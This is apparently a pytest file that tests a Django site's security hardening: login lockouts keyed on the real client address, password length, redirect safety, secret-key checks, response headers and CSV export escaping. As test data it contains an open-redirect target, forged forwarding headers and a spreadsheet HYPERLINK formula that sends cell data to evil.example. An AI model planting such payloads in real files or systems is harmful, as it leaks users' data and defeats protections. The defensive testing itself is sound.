"""The admin and response hardening of the reliability review (findings 5, 8 and 9),
through the test client. What needs the production server (HSTS, __Host- cookies over
HTTPS, static files from whitenoise) is in test_security.py, on its gunicorn."""

import csv
import io
import re

import pytest
from axes.models import AccessAttempt
from django.conf import settings
from django.contrib.auth.models import Group, User
from django.core.management import CommandError, call_command
from django.core.management.base import SystemCheckError
from django.test import Client, RequestFactory, override_settings
from django.urls import reverse

from explainer.serving.addresses import client_address
from explainer.serving.cache import encoding_for
from systems.commercial.models import Factor
from systems.releases.models import Release
from systems.releases.publishing import publish_now

PASSWORD = "a long editor passphrase 42"
LOGIN = "/admin/login/"
EDITOR, ATTACKER = "198.51.100.7", "203.0.113.5"


@pytest.fixture(autouse=True)
def _quick_hashing(settings):
    """How passwords are hashed is not what these tests check: the fastest hasher keeps
    their dozen logins cheap."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def make_editor(username="fay"):
    user = User.objects.create_user(username, password=PASSWORD, is_staff=True)
    user.groups.add(Group.objects.get(name="Editors"))
    return user


def behind_nginx(client_sent: str | None, client: str) -> dict:
    """The request headers gunicorn gets from nginx (`$proxy_add_x_forwarded_for`): what
    the client sent, then the address nginx saw; REMOTE_ADDR is nginx's own."""
    forwarded = f"{client_sent}, {client}" if client_sent else client
    return {"HTTP_X_FORWARDED_FOR": forwarded, "REMOTE_ADDR": "127.0.0.1"}


# Login throttling keyed on the client's own address (finding 5).

@pytest.mark.django_db
def test_a_stranger_cannot_lock_an_editor_out_from_another_address(client):
    make_editor()
    for _ in range(5):  # even forging the editor's address as the first entry
        failed = client.post(LOGIN, {"username": "fay", "password": "wrong guess"},
                             **behind_nginx(EDITOR, ATTACKER))
    assert failed.status_code == 429
    assert set(AccessAttempt.objects.values_list("ip_address", flat=True)) == {ATTACKER}
    # The attacker's address stays locked, even with the right password...
    locked = client.post(LOGIN, {"username": "fay", "password": PASSWORD},
                         **behind_nginx(None, ATTACKER))
    assert locked.status_code == 429 and "_auth_user_id" not in client.session
    # ...while the editor, at their own address, signs in.
    editor = Client()
    signed_in = editor.post(LOGIN, {"username": "fay", "password": PASSWORD},
                            **behind_nginx(None, EDITOR))
    assert signed_in.status_code == 302 and editor.session["_auth_user_id"]


@pytest.mark.parametrize(("count", "forwarded", "remote", "expected"), [
    (1, "203.0.113.5", "127.0.0.1", "203.0.113.5"),  # nginx alone
    (1, "6.6.6.6, 203.0.113.5", "127.0.0.1", "203.0.113.5"),  # a forged first entry
    (2, "6.6.6.6, 203.0.113.5, 10.0.0.2", "10.0.0.3", "203.0.113.5"),  # balancer + nginx
    (2, "203.0.113.5", "10.0.0.3", "203.0.113.5"),  # reached nginx directly
    (1, None, "192.0.2.1", "192.0.2.1"),  # no proxy said anything
    (0, "6.6.6.6", "192.0.2.1", "192.0.2.1"),  # no proxy of ours: the header is the client's
    (1, "203.0.113.5:41234", "127.0.0.1", "203.0.113.5"),  # a balancer that adds the port
    (1, "[2001:DB8::1]:41234", "127.0.0.1", "2001:db8::1"),
    (1, "unknown", "127.0.0.1", "127.0.0.1"),  # not an address: never stored as one
])
def test_the_client_is_the_entry_our_outermost_proxy_wrote(count, forwarded, remote, expected):
    meta = {"REMOTE_ADDR": remote}
    if forwarded is not None:
        meta["HTTP_X_FORWARDED_FOR"] = forwarded
    with override_settings(PROXY_COUNT=count):
        assert client_address(RequestFactory().get("/", **meta)) == expected


def test_a_lock_cools_off_within_the_hour():
    minutes = settings.AXES_COOLOFF_TIME.total_seconds() / 60
    assert 0 < minutes < 60


# Passwords, the login redirect and the secret key (finding 9).

@pytest.mark.django_db
def test_passwords_under_twelve_characters_are_refused_everywhere(monkeypatch):
    monkeypatch.setenv("DJANGO_EDITOR_PASSWORD", "kq7#vLm2@xZ")  # 11 characters
    with pytest.raises(CommandError, match="at least 12 characters"):
        call_command("createeditor", "gil", interactive=False, stdout=io.StringIO())
    assert not User.objects.filter(username="gil").exists()
    chief = Client()
    chief.force_login(User.objects.create_superuser("chief", password=PASSWORD))
    hal = make_editor("hal")
    own = reverse("admin:password_change")
    someone = reverse("admin:auth_user_password_change", args=[hal.pk])
    for url, data in ((own, {"old_password": PASSWORD, "new_password1": "kq7#vLm2@xZ",
                             "new_password2": "kq7#vLm2@xZ"}),
                      (someone, {"password1": "kq7#vLm2@xZ", "password2": "kq7#vLm2@xZ"})):
        refused = chief.post(url, data)
        assert refused.status_code == 200 and "at least 12 characters" in refused.content.decode()
    assert chief.post(someone, {"password1": "kq7#vLm2@xZw", "password2": "kq7#vLm2@xZw"}) \
        .status_code == 302  # twelve will do
    hal.refresh_from_db()
    assert hal.check_password("kq7#vLm2@xZw")


@pytest.mark.django_db
def test_a_login_with_an_unsafe_next_lands_on_the_admin(client):
    make_editor()
    response = client.post(f"{LOGIN}?next=https://evil.example/",
                           {"username": "fay", "password": PASSWORD,
                            "next": "https://evil.example/"})
    assert response.status_code == 302 and response["Location"] == reverse("admin:index")
    assert client.get(response["Location"]).status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("key", ["throwaway", "x" * 60, "django-insecure-" + "k3Yq9" * 10])
def test_the_deploy_check_refuses_a_weak_secret_key(key):
    with override_settings(SECRET_KEY=key), pytest.raises(SystemCheckError,
                                                          match="explainer.E001"):
        call_command("check", deploy=True, fail_level="ERROR", stdout=io.StringIO(),
                     stderr=io.StringIO())


@pytest.mark.django_db
def test_the_deploy_check_passes_a_strong_secret_key():
    import secrets
    out = io.StringIO()
    # The security checks only: the browser tests' conftest sets DJANGO_ALLOW_ASYNC_UNSAFE
    # in this process, which Django's async check reports as a deployment error.
    with override_settings(SECRET_KEY=secrets.token_urlsafe(50)):
        call_command("check", deploy=True, fail_level="ERROR", tags=["security"],
                     stdout=out, stderr=out)
    assert "explainer.E001" not in out.getvalue() and "security.W009" not in out.getvalue()


# Headers on every response (finding 9): the 414, and Cross-Origin-Resource-Policy.

@pytest.mark.django_db
def test_the_414_carries_the_same_security_headers_as_a_page(client):
    page = client.get("/en/sources/")
    refused = client.get("/en/sources/?x=" + "9" * 3000)
    assert refused.status_code == 414 and b"999" not in refused.content
    for header in ("X-Content-Type-Options", "Referrer-Policy", "Cross-Origin-Opener-Policy",
                   "Permissions-Policy", "X-Frame-Options", "Cross-Origin-Resource-Policy"):
        assert refused[header] == page[header], header
    policy = refused["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert "'unsafe-inline'" not in policy


@pytest.mark.django_db
@pytest.mark.parametrize(("path", "headers", "expected"), [
    ("/en/", {}, "same-origin"),
    ("/en/misconceptions/one-system/?court_judgment=paid", {"HTTP_HX_REQUEST": "true",
                                                            "HTTP_HX_TARGET": "results"},
     "same-origin"),
    ("/admin/login/", {}, "same-origin"),
    ("/en/no-such-page/", {}, "same-origin"),
    ("/embed/compare/", {}, "cross-origin"),
    ("/embed/loader.js", {}, "cross-origin"),
    ("/api/v1/rules.json", {}, "cross-origin"),
    ("/oembed?url=http://testserver/en/misconceptions/one-system/", {}, "cross-origin"),
    ("/en/cards/site.png", {}, "cross-origin"),
])
def test_only_what_other_sites_load_is_cross_origin(client, path, headers, expected):
    response = client.get(path, **headers)
    assert response["Cross-Origin-Resource-Policy"] == expected, response.status_code


@pytest.mark.django_db
def test_the_page_cache_replays_the_resource_policy():
    stored = Client().get("/embed/compare/?loan_arrears=4")
    assert stored["Cross-Origin-Resource-Policy"] == "cross-origin"
    without = [m for m in settings.MIDDLEWARE if not m.endswith("ResourcePolicyMiddleware")]
    with override_settings(MIDDLEWARE=without):
        replayed = Client().get("/embed/compare/?loan_arrears=4")
        fresh = Client().get("/embed/compare/?loan_arrears=5")
    assert replayed.content == stored.content
    assert replayed["Cross-Origin-Resource-Policy"] == "cross-origin"  # from the cache
    assert "Cross-Origin-Resource-Policy" not in fresh  # rendered without the middleware


# Accept-Encoding weights (finding 9).

@pytest.mark.parametrize(("accepted", "expected"), [
    ("br, gzip", "br"),
    ("gzip, deflate, br, zstd", "br"),
    ("gzip", "gzip"),
    ("", ""),
    ("identity", ""),
    ("br;q=0, gzip", "gzip"),
    ("BR ; Q=0 , GZIP", "gzip"),
    ("gzip;q=0", ""),
    ("gzip;q=0, br;q=0", ""),
    ("gzip;q=1, br;q=0.5", "gzip"),  # the highest weight wins
    ("gzip;q=0.8, br;q=0.8", "br"),  # Brotli on a tie
    ("gzip, br;q=1.0", "br"),
    ("*", "br"),  # any coding
    ("*;q=0.5, gzip", "gzip"),  # named above the rest
    ("br;q=0, *", "gzip"),
    ("*;q=0", ""),
    ("gzip;q=0.5, identity", ""),  # the body as is, preferred
    ("br;q=abc, gzip;q=0.1", "gzip"),  # a weight that does not parse refuses its coding
    ("br;q=2, gzip;q=nan", ""),
])
def test_accept_encoding_weights_are_honoured(accepted, expected):
    assert encoding_for(RequestFactory().get("/", HTTP_ACCEPT_ENCODING=accepted)) == expected


@pytest.mark.django_db
def test_a_reader_who_refuses_brotli_gets_gzip(client):
    response = client.get("/en/sources/", HTTP_ACCEPT_ENCODING="br;q=0, gzip")
    assert response["Content-Encoding"] == "gzip"
    assert "br" not in response.get("ETag", "")


# CSV exports in every spreadsheet locale (finding 8).

HYPERLINK = 'Late bills;=HYPERLINK("http://evil.example/?"&A1,"see source")'
FORMULA_START = re.compile(r'^[\s"]*[=+\-@]')


@pytest.mark.django_db
def test_no_csv_cell_starts_a_formula_however_a_spreadsheet_splits_it(client):
    factor = Factor.objects.get(key="sesame-late-bills")
    factor.label = HYPERLINK
    factor._change_reason = "hostile label"
    factor.save()
    publish_now(Release.Kind.MAJOR, "hostile label")  # a label is a fact: major
    text = client.get("/api/v1/rules.csv").content.decode()
    labels = [row["label"] for row in csv.DictReader(io.StringIO(text))]
    assert HYPERLINK.replace(";=", ";'=") in labels  # the text kept, the formula not
    for separator in (",", ";", "\t"):
        parsed = [cell for row in csv.reader(io.StringIO(text), delimiter=separator)
                  for cell in row]
        split = [cell for line in text.splitlines() for cell in line.split(separator)]
        starting = [cell for cell in parsed + split if FORMULA_START.match(cell)]
        assert not starting, (separator, starting[:3])


@pytest.mark.django_db
def test_positive_effects_export_unsigned_and_without_an_apostrophe(client):
    values = [(row["label"], row["value"]) for row in client.get("/api/v1/rules.json").json()]
    positive = [(label, value) for label, value in values if value.startswith("+")]
    assert positive  # the shipped data has some ("+20 on the Fulfilment capacity rating")
    exported = {(row["label"], row["value"]) for row in csv.DictReader(io.StringIO(
        client.get("/api/v1/rules.csv").content.decode()))}
    for label, value in positive:
        assert (label, value[1:]) in exported, value
    assert not any(value.startswith("'") for _label, value in exported)
    negative = next(value for _label, value in values if value.startswith("\u2212"))
    assert negative in {value for _label, value in exported}  # the true minus sign stays
